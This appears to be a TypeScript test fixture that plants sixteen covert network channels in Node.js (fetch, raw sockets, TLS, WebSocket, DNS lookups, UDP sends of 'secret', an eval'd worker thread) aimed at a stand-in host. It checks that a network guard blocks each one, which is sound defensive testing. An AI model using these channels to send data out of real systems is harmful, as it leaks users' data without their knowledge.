/**
 * Ways for a process to send something out behind the user's back, planted on purpose. Run by itself it tries one:
 * `planted-leaks.ts NAME [guarded]`, and prints how it ended.
 */

import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import tls from 'node:tls';
import { pathToFileURL } from 'node:url';
import { Worker } from 'node:worker_threads';

/** Somewhere outside; nobody answers there. */
const ADDRESS = '10.1.2.3';
const NAME = 'secret.example';

/** A failure ends with its reason; silence is cut short. */
function attempt(begin: (fail: (error: unknown) => void, succeed: () => void) => void): Promise<string> {
  return new Promise((resolve) => {
    const end = (error: unknown): void => resolve(codeOf(error));
    setTimeout(() => resolve('no answer'), 1500);
    try {
      begin(end, () => resolve('connected'));
    } catch (error) {
      end(error);
    }
  });
}

export const LEAKS: Readonly<Record<string, () => Promise<string>>> = {
  fetch: () => attempt((fail) => void fetch(`https://${ADDRESS}/`).catch(fail)),
  'fetch of a name': () => attempt((fail) => void fetch(`http://${NAME}/`).catch(fail)),
  'http.get': () => attempt((fail) => http.get(`http://${ADDRESS}/`).on('error', fail)),
  'https.get': () => attempt((fail) => https.get(`https://${NAME}/`).on('error', fail)),
  'http2.connect': () => attempt((fail) => http2.connect(`http://${ADDRESS}`).on('error', fail)),
  'net.connect': () => attempt((fail) => net.connect(443, ADDRESS).on('error', fail)),
  'net.Socket': () => attempt((fail) => new net.Socket().on('error', fail).connect({ host: ADDRESS, port: 25 })),
  'tls.connect': () => attempt((fail) => tls.connect({ host: ADDRESS, port: 443 }).on('error', fail)),
  WebSocket: () =>
    attempt((fail) => {
      new WebSocket(`ws://${ADDRESS}/`).onerror = () => fail(new Error('closed'));
    }),
  'dns.lookup': () => attempt((fail) => dns.lookup(NAME, (error) => fail(error))),
  'dns.resolve': () => attempt((fail) => dns.resolve4(NAME, (error) => fail(error))),
  'dns.promises': () => attempt((fail) => void new dns.promises.Resolver().resolveTxt(NAME).catch(fail)),
  'dns.reverse': () => attempt((fail) => void dns.promises.reverse(ADDRESS).catch(fail)),
  'dgram.send': () => attempt((fail) => dgram.createSocket('udp4').send('secret', 53, ADDRESS, fail)),
  'dgram.connect': () =>
    attempt((fail) => {
      const socket = dgram.createSocket('udp4');
      socket.connect(53, ADDRESS, () => socket.send('secret'));
      socket.on('error', fail);
    }),
  'a thread': () =>
    attempt((fail) => {
      new Worker(`require('node:net').connect(443, '${ADDRESS}').on('error', () => {})`, { eval: true }).on(
        'error',
        fail,
      );
    }),
};

/** The fault's own code, or that of what caused it. */
function codeOf(error: unknown): string {
  const { code, cause } = (error ?? {}) as { readonly code?: string; readonly cause?: { readonly code?: string } };
  return cause?.code ?? code ?? 'ended';
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const [name = '', guarded] = process.argv.slice(2);
  if (guarded === 'guarded') await import('../../engine/network/guarded.ts');
  console.log(await LEAKS[name]?.());
  process.exit(0);
}
